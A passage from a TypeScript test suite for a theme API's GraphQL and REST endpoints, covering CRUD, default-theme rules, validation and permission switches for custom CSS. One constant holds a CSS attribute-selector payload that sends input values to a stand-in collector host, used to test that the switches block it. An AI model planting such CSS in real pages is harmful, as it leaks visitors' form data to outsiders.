    expect(one.errors).toBeUndefined();
    expect(one.data.domain.theme).toEqual(second);
  });

  it('updates only the fields it is given; null removes an image; REST reads the result', async () => {
    const created = await createTheme(domain, { logoImage: PNG_B64, settingsIconImage: JPEG_B64 });
    const input = { name: 'Updated', widgetPosition: 'top', logoImage: null, windowLinkColor: '#A0b1C2', widgetButtons: ['cpanel'] };
    const updated = await service.graphql(UPDATE, { ...scope(), themeId: created.id, input });
    expect(updated.errors).toBeUndefined();
    const expected = { ...created, ...input };
    expect(updated.data.updateTheme).toEqual(expected);
    expect(await readTheme(domain, created.id)).toEqual(expected);
  });

  it('takes back what it read: the whole theme minus its id as update input', async () => {
    const created = await createTheme(domain, { settingsIconImage: PNG_B64 });
    const read = await service.graphql(READ_ONE, { ...domainVars(), themeId: created.id });
    const { id: _id, ...fields } = read.data.domain.theme as Theme;
    const input = { ...fields, customCss: 'changed{}' };
    const updated = await service.graphql(UPDATE, { ...scope(), themeId: created.id, input });
    expect(updated.errors).toBeUndefined();
    expect(updated.data.updateTheme).toEqual({ ...created, customCss: 'changed{}' });
  });

  it('deletes a theme and returns its id; it is gone for REST and GraphQL', async () => {
    const doomed = await createTheme(domain);
    const kept = await createTheme(domain);
    const deleted = await service.graphql(DELETE, { ...scope(), themeId: doomed.id });
    expect(deleted.errors).toBeUndefined();
    expect(deleted.data.deleteTheme).toBe(doomed.id);
    expect((await service.rest('GET', themeUrl(domain, doomed.id))).status).toBe(404);
    expect((await service.graphql(READ_ALL, domainVars())).data.domain.themes).toEqual([kept]);
    const again = await service.graphql(DELETE, { ...scope(), themeId: doomed.id });
    expect(again.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
  });

  it('keeps one default theme per domain on create and update, and leaves other domains alone', async () => {
    const other = await createDomain(service, 'other.example');
    const theirs = await createTheme(other, { default: true });

    const a = await service.graphql(CREATE, { ...scope(), input: themePayload({ name: 'a', default: true }) });
    const b = await service.graphql(CREATE, { ...scope(), input: themePayload({ name: 'b', default: true }) });
    const aId = a.data.createTheme.id as string;
    const bId = b.data.createTheme.id as string;
    expect(b.data.createTheme.default).toBe(true);
    expect(await defaults(domain)).toEqual([[aId, false], [bId, true]]);
    const viaGraphql = await service.graphql(READ_ALL, domainVars());
    expect(viaGraphql.data.domain.themes.map((theme: Theme) => [theme.id, theme.default])).toEqual([[aId, false], [bId, true]]);

    const promoted = await service.graphql(UPDATE, { ...scope(), themeId: aId, input: { default: true } });
    expect(promoted.errors).toBeUndefined();
    expect(promoted.data.updateTheme.default).toBe(true);
    expect(await defaults(domain)).toEqual([[aId, true], [bId, false]]);
    expect(await defaults(other)).toEqual([[theirs.id, true]]);

    // What REST makes default, GraphQL sees.
    await service.rest('PUT', themeUrl(domain, bId), { default: true });
    const after = await service.graphql(READ_ALL, domainVars());
    expect(after.data.domain.themes.map((theme: Theme) => [theme.id, theme.default])).toEqual([[aId, false], [bId, true]]);
  });

  it('reports bad input on create as BAD_USER_INPUT with the same errors list as REST, storing nothing', async () => {
    await createTheme(domain, { default: true });
    const before = await domainState(service, domain);
    const input = themePayload({
      default: true,
      windowLinkColor: 'red',
      buttonBorderColor: '#fff',
      widgetPosition: 'left',
      widgetButtons: ['accept', 'accept'],
      settingsIconTarget: 'nowhere',
      logoImage: GIF_B64,
      settingsIconImage: b64(png(64 * KiB + 1)),
    });
    const viaGraphql = await service.graphql(CREATE, { ...scope(), input });
    const viaRest = await service.rest('POST', themesUrl(domain), input);
    expectValidationProblem(viaRest);
    expect(viaRest.body.errors.map((error: { path: string }) => error.path).sort()).toEqual(
      ['/buttonBorderColor', '/logoImage', '/settingsIconImage', '/settingsIconTarget', '/widgetButtons', '/widgetPosition', '/windowLinkColor'],
    );
    expect(viaGraphql.data).toBeNull();
    expect(viaGraphql.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(viaGraphql.errors?.[0]?.extensions?.errors).toEqual(viaRest.body.errors);
    expect(await domainState(service, domain)).toEqual(before);
  });

  it.each([
    ['a bad colour', { primaryButtonForegroundColor: '123456' }],
    ['a bad widget button', { widgetButtons: ['accept', 'never'] }],
    ['a bad image', { logoImage: `data:image/png;base64,${PNG_B64}` }],
    ['a null name', { name: null }],
    ['a null colour', { windowBackgroundColor: null }],
  ])('reports %s in an update as BAD_USER_INPUT with the same errors list as REST', async (_, input) => {
    const created = await createTheme(domain);
    const before = await domainState(service, domain);
    const viaGraphql = await service.graphql(UPDATE, { ...scope(), themeId: created.id, input: { ...input, customCss: 'no' } });
    const viaRest = await service.rest('PUT', themeUrl(domain, created.id), { ...input, customCss: 'no' });
    expectValidationProblem(viaRest);
    expect(viaGraphql.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(viaGraphql.errors?.[0]?.extensions?.errors).toEqual(viaRest.body.errors);
    expect(await domainState(service, domain)).toEqual(before);
  });

  it('answers NOT_FOUND for an unknown, malformed or foreign theme, and an unknown domain', async () => {
    const other = await createDomain(service, 'elsewhere.example');
    const theirs = await createTheme(other);
    for (const themeId of [unknownId(), 'not-an-id', theirs.id]) {
      const read = await service.graphql(READ_ONE, { ...domainVars(), themeId });
      expect(read.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
      const update = await service.graphql(UPDATE, { ...scope(), themeId, input: { name: 'x' } });
      expect(update.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
      const remove = await service.graphql(DELETE, { ...scope(), themeId });
      expect(remove.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    }
    expect(await readTheme(other, theirs.id)).toEqual(theirs);

    for (const path of [
      { ...domain, domainId: unknownId() },
      { ...domain, clientId: unknownId() },
      { ...domain, clientId: other.clientId },
    ]) {
      const create = await service.graphql(CREATE, { ...scope(path), input: themePayload() });
      expect(create.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
      const list = await service.graphql(READ_ALL, domainVars(path));
      expect(list.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    }
    expect((await service.rest('GET', themesUrl(domain))).body).toEqual([]);
  });
});

// ── CSS that reaches outside ───────────────────────────────────────────────

describe("customCss and customCssForIframeBlocker: CSS on every visitor's page, guarded by canUseIndCSS and canUseIframeCSS", () => {
  // A selector on an attribute's value with a background from elsewhere tells that site what the page holds.
  const LEAKY_CSS = 'input[value^="a"] { background: url(https://collector.example/a) }';
  const setFeatures = async (features: Record<string, boolean>) =>
    expect((await service.rest('PUT', `${API}/${domain.clientId}`, { features })).status).toBe(200);
  const clientKey = async () => service.as((await createApiKey(service, domain.clientId, 'no css')).key);

  it('lets every client key write them by default', async () => {
    const { features } = (await service.rest('GET', `${API}/${domain.clientId}`)).body;
    expect(features).toMatchObject({ canUseIndCSS: true, canUseIframeCSS: true });
    const asClient = await clientKey();
    const answer = await asClient.rest('POST', themesUrl(domain), themePayload({ customCss: LEAKY_CSS, customCssForIframeBlocker: 'a{}' }));
    expect(answer.status, answer.text).toBe(201);
  });

  it("refuses a client key's write that sets or changes one whose switch is off (403 / FORBIDDEN), storing nothing", async () => {
    const created = await createTheme(domain, { customCss: 'p{}', customCssForIframeBlocker: 'div{}' });
    await setFeatures({ canUseIndCSS: false, canUseIframeCSS: false });
    const asClient = await clientKey();
    const before = await domainState(service, domain);

    for (const change of [{ customCss: LEAKY_CSS }, { customCssForIframeBlocker: LEAKY_CSS }]) {
      const create = await asClient.rest('POST', themesUrl(domain), themePayload(change));
      expect(create.status, JSON.stringify(change)).toBe(403);
      const update = await asClient.rest('PUT', themeUrl(domain, created.id), change);
      expect(update.status, JSON.stringify(change)).toBe(403);
      const gql = await asClient.graphql(UPDATE, { ...scope(), themeId: created.id, input: change });
      expect(gql.errors?.[0]?.extensions?.code, JSON.stringify(change)).toBe('FORBIDDEN');
    }
    const gqlCreate = await asClient.graphql(CREATE, { ...scope(), input: themePayload({ customCss: LEAKY_CSS }) });
    expect(gqlCreate.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect(await domainState(service, domain)).toEqual(before);
  });

  it('says in OpenAPI that they are code injection that can reach outside URLs', async () => {
    const { schemas } = (await service.as(null).rest('GET', '/openapi.json')).body.components;
    for (const name of ['Theme', 'ThemeCreate', 'ThemeUpdate']) {
      expect(schemas[name].properties.customCss.description, name).toMatch(/^Code injection by design.*outside URLs.*canUseIndCSS/s);
      expect(schemas[name].properties.customCssForIframeBlocker.description, name).toMatch(/^Code injection by design.*canUseIframeCSS/s);
    }
  });

  it('guards each field by its own switch, takes the CSS back unchanged, and lets the administrator change it', async () => {
    const created = await createTheme(domain, { customCss: 'p{}' });
    await setFeatures({ canUseIndCSS: false });
    const asClient = await clientKey();
    const { id: _id, ...read } = await readTheme(domain, created.id);
    const roundTrip = await asClient.rest('PUT', themeUrl(domain, created.id), { ...read, name: 'Renamed', customCssForIframeBlocker: 'iframe{}' });
    expect(roundTrip.status, roundTrip.text).toBe(200);
    expect(roundTrip.body).toMatchObject({ name: 'Renamed', customCss: 'p{}', customCssForIframeBlocker: 'iframe{}' });
    expect((await service.rest('PUT', themeUrl(domain, created.id), { customCss: LEAKY_CSS })).status).toBe(200);
  });
});
